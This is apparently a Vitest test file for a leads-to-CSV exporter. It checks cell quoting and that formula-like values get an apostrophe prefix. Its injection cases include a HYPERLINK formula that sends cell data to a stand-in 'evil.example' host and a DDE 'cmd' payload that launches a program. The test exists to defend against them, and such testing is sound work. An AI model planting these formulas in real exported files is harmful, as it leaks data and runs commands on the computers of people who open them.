import { describe, expect, it } from 'vitest';
import { cellOf, csvOf } from './leads-csv.ts';

const lead = {
  lead_id: 'l1', created_at: '2026-03-01T10:00:00Z', name: 'Ada "the" Engineer, Esq.', email: 'ada@shop.example', phone: '+49 30 1234',
  note: 'first\nsecond', source: 'form' as const, consent_text: 'I agree', conversation_id: null,
};

describe('leads as CSV', () => {
  it('keep commas, quotes and lines inside of their cell', () => {
    const [head, ...rows] = csvOf([lead]).split('\r\n');
    expect(head).toBe('\ufeff"created_at","name","email","phone","note","source","consent_text","lead_id","conversation_id"');
    expect(rows).toEqual([`"2026-03-01T10:00:00Z","Ada ""the"" Engineer, Esq.","ada@shop.example","'+49 30 1234","first\nsecond","form","I agree","l1",""`, '']);
  });

  it('hold no formula', () => {
    for (const text of [
      '=1+1', '+1', '-1', '@SUM(A1)', '|x', '%0A=1', '\t=1', '\r=1', '\n=1', ' =1', '"=1', "'=1", '\u00a0=1', '\ufeff=1', '＝1', '＋1', '－1', '＠x',
      '=HYPERLINK("https://evil.example/?"&A1)', "=cmd|' /C calc'!A0",
    ]) {
      expect(cellOf(text), JSON.stringify(text)).toMatch(/^"'/);
    }
    expect(cellOf('a=1')).toBe('"a=1"');
    expect(cellOf('')).toBe('""');
  });
});
